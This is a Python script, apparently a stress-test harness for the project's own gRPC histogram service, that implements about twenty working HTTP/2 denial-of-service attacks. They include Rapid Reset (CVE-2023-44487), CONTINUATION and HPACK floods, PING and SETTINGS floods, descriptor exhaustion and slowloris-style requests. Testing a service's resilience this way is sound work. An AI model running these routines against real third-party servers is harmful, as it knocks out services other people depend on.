"""What a stranger can send: raw frames and raw sockets, no gRPC library, no token.

    attacks.py NAME ADDRESS METRICS_ADDRESS SECONDS

runs one attack for that long and ends with status 0, whatever the server did about it. An attack that
the server ends (closes the connection, say) begins again at once.
"""

import contextlib
import os
import pathlib
import resource
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "service"))
from harness.http2 import (  # noqa: E402
    DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTING_INITIAL_WINDOW_SIZE, SETTINGS, connect,
    frame, message_prefix)

WINDOW_UPDATE, CONTINUATION = 8, 9
SERVICE = "/histogram.v1.HistogramService/"
MIB = 1 << 20


def hpack_length(length, prefix_bits=7):
    """An HPACK integer (RFC 7541, 5.1), its prefix's other bits 0."""
    most = (1 << prefix_bits) - 1
    if length < most:
        return bytes([length])
    out, length = [most], length - most
    while length >= 128:
        out.append(length % 128 | 128)
        length //= 128
    return bytes([*out, length])


def field(name, value):
    return b"\x00" + hpack_length(len(name)) + name + hpack_length(len(value)) + value


def request_block(path, extra=b""):
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"localhost"),
              (b"te", b"trailers"), (b"content-type", b"application/grpc"))
    return b"".join(field(*pair) for pair in fields) + extra


def settings(**values):
    """A SETTINGS frame; nothing in it by default."""
    known = {"window": SETTING_INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", known[k], v) for k, v in values.items()))


def varint(value):
    out = []
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes([*out, value])


class Attack:
    """Where it goes to and how long it lasts."""

    def __init__(self, address, metrics_address, seconds):
        self.address, self.metrics_address = address, metrics_address
        self.end = time.monotonic() + seconds

    def goes_on(self):
        return time.monotonic() < self.end

    def open(self, first=b"", address=None):
        """A connection that has sent `first`; waits no longer than the attack lasts."""
        connection = connect(address or self.address, max(0.1, self.end - time.monotonic()))
        connection.sendall(first)
        return connection

    def flood(self, first, repeated, at_once=1):
        """Sends `first` and then `repeated` without end on each of some connections, reading nothing."""
        while self.goes_on():
            with contextlib.suppress(OSError), contextlib.ExitStack() as stack:
                connections = [stack.enter_context(self.open(first)) for _ in range(at_once)]
                while self.goes_on():
                    for connection in connections:
                        connection.sendall(repeated)
            time.sleep(0.01)

    def hold(self, connections):
        """Keeps them open for the rest of the time."""
        time.sleep(max(0.0, self.end - time.monotonic()))
        for connection in connections:
            connection.close()

    def open_many(self, count, first=b"", address=None):
        connections = []
        with contextlib.suppress(OSError):
            while len(connections) < count and self.goes_on():
                connections.append(self.open(first, address))
        return connections


HELLO = PREFACE + settings()


def open_accumulate():
    return HELLO + frame(HEADERS, END_HEADERS, 1, request_block(SERVICE + "Accumulate"))


def descriptors_run_out(attack):
    """More connections than the server may have descriptors; closed again at half time."""
    half = time.monotonic() + (attack.end - time.monotonic()) / 2
    connections = attack.open_many(1500)
    time.sleep(max(0.0, half - time.monotonic()))
    for connection in connections:
        connection.close()
    attack.hold([])


def window_updates_past_2_gib(attack):
    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    attack.flood(open_accumulate(), frame(0x77, 0, 0, update) * 80_000)


def empty_data_past_2_gib(attack):
    attack.flood(open_accumulate(), frame(DATA, 0, 1) * 100_000)


def continuation_without_end(attack):
    tiny = field(b"a", b"b") * 3000
    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute")),
                 frame(CONTINUATION, 0, 1, tiny[:16000]) * 60)


def headers_over_many_frames(attack):
    """8 MB of headers in frames that are each within the limit; then the call."""
    large = frame(CONTINUATION, 0, 1, field(b"x-pad", b"p" * 15000)) * 540
    call = (HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Describe")) + large +
            frame(CONTINUATION, END_HEADERS, 1) + frame(DATA, END_STREAM, 1, message_prefix(0)))
    while attack.goes_on():
        with contextlib.suppress(OSError), attack.open() as connection:
            connection.sendall(call)
            connection.recv(1 << 16)
        time.sleep(0.01)


def hpack_length_without_end(attack):
    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute") + b"\x00\x7f"),
                 frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 4, at_once=2)


def hpack_string_too_long(attack):
    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute") + b"\x00\x01a" +
                               hpack_length((1 << 31) - 1)),
                 frame(CONTINUATION, 0, 1, b"v" * 16000) * 4, at_once=2)


def streams_without_acknowledgement(attack):
    """Never acknowledges SETTINGS, so never learns how many streams it may open."""
    while attack.goes_on():
        with contextlib.suppress(OSError), attack.open(HELLO) as connection:
            stream = 1
            block = request_block(SERVICE + "Accumulate")
            while attack.goes_on() and stream < 1 << 30:
                connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) for i in range(100)))
                stream += 200
        time.sleep(0.01)


def one_byte_data_frames(attack):
    """A message of 15 MiB in frames of one byte, as fast as the window is opened."""
    size = 15 * MIB
    while attack.goes_on():
        with contextlib.suppress(OSError), attack.open(
                HELLO + frame(HEADERS, END_HEADERS, 1, request_block(SERVICE + "Compute")) +
                frame(DATA, 0, 1, message_prefix(size))) as connection:
            window = {0: 65535 - 5, 1: 65535 - 5}
            received, sent = b"", 0
            while attack.goes_on() and sent < size - 1:
                count = min(min(window.values()), 20_000, size - 1 - sent)
                connection.sendall(frame(DATA, 0, 1, b"x") * count)
                window = {stream: left - count for stream, left in window.items()}
                sent += count
                connection.setblocking(count == 0)
                connection.settimeout(5 if count == 0 else 0)
                with contextlib.suppress(BlockingIOError):
                    received += connection.recv(1 << 16)
                connection.settimeout(5)
                received = open_windows(window, received)
        time.sleep(0.01)


def open_windows(window, received):
    """Takes the updates of windows among the frames that came; returns what is no whole frame yet."""
    at = 0
    while len(received) - at >= 9 and len(received) - at >= 9 + int.from_bytes(received[at:at + 3], "big"):
        length, kind = int.from_bytes(received[at:at + 3], "big"), received[at + 3]
        body = received[at + 9:at + 9 + length]
        if kind == WINDOW_UPDATE:
            window[int.from_bytes(received[at + 5:at + 9], "big")] += int.from_bytes(body, "big")
        elif kind == SETTINGS:
            for first in range(0, length, 6):
                key, value = struct.unpack(">HI", body[first:first + 6])
                if key == SETTING_INITIAL_WINDOW_SIZE:
                    window[1] += value - 65535
        at += 9 + length
    return received[at:]


def rapid_reset(attack):
    """CVE-2023-44487: calls begun and cancelled as fast as they can be written."""
    block = request_block(SERVICE + "Compute")
    while attack.goes_on():
        with contextlib.suppress(OSError), attack.open(HELLO) as connection:
            stream = 1
            while attack.goes_on() and stream < 1 << 30:
                connection.sendall(b"".join(
                    frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
                    for s in range(stream, stream + 400, 2)))
                stream += 400
        time.sleep(0.01)


def ping_flood(attack):
    attack.flood(HELLO, frame(PING, 0, 0, bytes(8)) * 4000)


def settings_flood(attack):
    attack.flood(HELLO, settings(window=65535) * 4000)


def idle_connections(attack):
    resource_limit()
    attack.hold(attack.open_many(5000, HELLO))


def connect_and_close_storm(attack):
    while attack.goes_on():
        with contextlib.suppress(OSError):
            attack.open().close()


def half_tls_handshakes(attack):
    """The start of a ClientHello, held and renewed."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32)
    while attack.goes_on():
        for connection in attack.open_many(300, hello):
            connection.close()


def garbage(attack):
    while attack.goes_on():
        with contextlib.suppress(OSError), attack.open() as connection:
            connection.sendall(PREFACE * (os.urandom(1)[0] % 2) + os.urandom(4000))


def replies_never_read(attack):
    """One connection, 32 streams, small requests with large answers, and a window that stays shut."""
    request = many_request()
    message = message_prefix(len(request)) + request
    while attack.goes_on():
        with contextlib.suppress(OSError), attack.open(PREFACE + settings(window=0)) as connection:
            for stream in range(1, 64, 2):
                connection.sendall(frame(HEADERS, END_HEADERS, stream, request_block(SERVICE + "ComputeMany")))
            for _ in range(64):
                for stream in range(1, 64, 2):
                    connection.sendall(frame(DATA, 0, stream, message))
            connection.settimeout(max(0.1, attack.end - time.monotonic()))
            while attack.goes_on() and connection.recv(1 << 16):
                pass
        time.sleep(0.01)


def many_request():
    """A ComputeManyRequest of some twenty bytes whose answer takes a megabyte."""
    from harness.api import pb
    request = pb.ComputeManyRequest(request_id=1)
    request.request.payload = b"x"
    request.request.spec.binning.even.bin_count = 65536
    request.request.spec.edges = True
    return request.SerializeToString()


def half_sent_messages(attack):
    """200 connections with 30 half messages each, which never end."""
    connections = []
    first = HELLO + b"".join(
        frame(HEADERS, END_HEADERS, stream, request_block(SERVICE + "Compute")) +
        frame(DATA, 0, stream, message_prefix(8 * MIB) + b"x" * 2000) for stream in range(1, 61, 2))
    connections = attack.open_many(200, first)
    while attack.goes_on():
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.setblocking(False)
                connection.send(frame(DATA, 0, 1, b"x" * 500))
        time.sleep(0.2)


def health_watch_names(attack):
    """Watches of names that are megabytes long."""
    from harness.api import open_channel
    name = b"n" * (8 * MIB)
    request = b"\x0a" + varint(len(name)) + name
    while attack.goes_on():
        channel = open_channel(attack.address)
        watch = channel.unary_stream("/grpc.health.v1.Health/Watch")
        calls = [watch(request) for _ in range(40)]
        time.sleep(min(5.0, max(0.0, attack.end - time.monotonic())))
        for call in calls:
            call.cancel()
        channel.close()


def reflection_streams(attack):
    """gRPC serves reflection with a thread for each open stream."""
    path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
    first = HELLO + b"".join(frame(HEADERS, END_HEADERS, s, request_block(path)) for s in range(1, 201, 2))
    attack.hold(attack.open_many(8, first))


def metrics_slow_clients(attack):
    """Requests on the metrics port that never end, renewed when they are closed."""
    connections = []
    while attack.goes_on():
        while len(connections) < 60:
            try:
                connections.append(attack.open(b"GET /metrics HTTP/1.1\r\nX-Slow: ", attack.metrics_address))
            except OSError:
                break
        for connection in list(connections):
            try:
                connection.setblocking(False)
                connection.send(b"a")
            except BlockingIOError:
                pass
            except OSError:
                connections.remove(connection)
                connection.close()
        time.sleep(0.2)


ATTACKS = {function.__name__: function for function in (
    descriptors_run_out, window_updates_past_2_gib, empty_data_past_2_gib, continuation_without_end,
    headers_over_many_frames, hpack_length_without_end, hpack_string_too_long, streams_without_acknowledgement,
    one_byte_data_frames, rapid_reset, ping_flood, settings_flood, idle_connections, connect_and_close_storm,
    half_tls_handshakes, garbage, replies_never_read, half_sent_messages, health_watch_names, reflection_streams,
    metrics_slow_clients)}


def resource_limit():
    """As many descriptors as the system lets this process have."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main():
    name, address, metrics_address, seconds = sys.argv[1:]
    resource_limit()
    ATTACKS[name](Attack(address, metrics_address, float(seconds)))


if __name__ == "__main__":
    main()
